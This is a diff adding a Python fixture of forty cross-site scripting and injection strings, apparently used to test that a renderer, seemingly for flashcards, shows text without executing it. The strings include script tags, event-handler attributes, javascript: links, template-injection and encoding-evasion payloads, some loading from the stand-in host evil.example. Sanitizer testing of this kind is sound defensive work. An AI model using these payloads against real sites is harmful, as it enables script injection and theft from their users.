@@ -1,0 +1,48 @@
+"""Forty texts that a page must show and never act on; where one is live it calls ``rkHit`` or asks ``evil.example``."""
+
+from __future__ import annotations
+
+from typing import Final
+
+PAYLOADS: Final = (
+    "<script>rkHit()</script>",
+    "<script src=https://evil.example/x.js></script>",
+    "</title></head><script>rkHit()</script>",
+    "</textarea></style></script><script>rkHit()</script>",
+    "<img src=x onerror=rkHit()>",
+    "<img src=https://evil.example/x.png>",
+    '"><img src=x onerror=rkHit()>',
+    "'><img src=x onerror=rkHit()>",
+    "` onerror=rkHit() `",
+    '" onmouseover="rkHit()" autofocus onfocus="rkHit()" x="',
+    "' onfocus='rkHit()' autofocus x='",
+    "<svg onload=rkHit()></svg>",
+    "<svg><script>rkHit()</script></svg>",
+    "<svg><animate onbegin=rkHit() attributeName=x dur=1s></svg>",
+    "<math><mtext><img src=x onerror=rkHit()></mtext></math>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<iframe srcdoc='<script>parent.rkHit()</script>'></iframe>",
+    "<object data=https://evil.example/x></object>",
+    "<embed src=https://evil.example/x>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<div style=\"background:url('https://evil.example/x')\">x</div>",
+    '<div style="width:expression(rkHit())">x</div>',
+    "<form action=https://evil.example/><input autofocus onfocus=rkHit()></form>",
+    "<video src=x onerror=rkHit()></video>",
+    "<details open ontoggle=rkHit()>x</details>",
+    "<a href=javascript:rkHit()>a</a>",
+    "[a](javascript:rkHit())",
+    "[a](data:text/html,x)",
+    "![x](https://evil.example/x.png)",
+    "<https://evil.example/x>",
+    "{{Front}}",
+    "{{c1::x}}",
+    "{{ 7 * 7 }}{% raw %}${rkHit()}",
+    "<!-- x --!><script>rkHit()</script>",
+    "<![CDATA[<script>rkHit()</script>]]>",
+    "&lt;script&gt;rkHit()&lt;/script&gt;&#60;img src=x onerror=rkHit()&#62;",
+    "\uff1cscript\uff1erkHit()\uff1c/script\uff1e\u2028</scr\u200bipt>",
+)
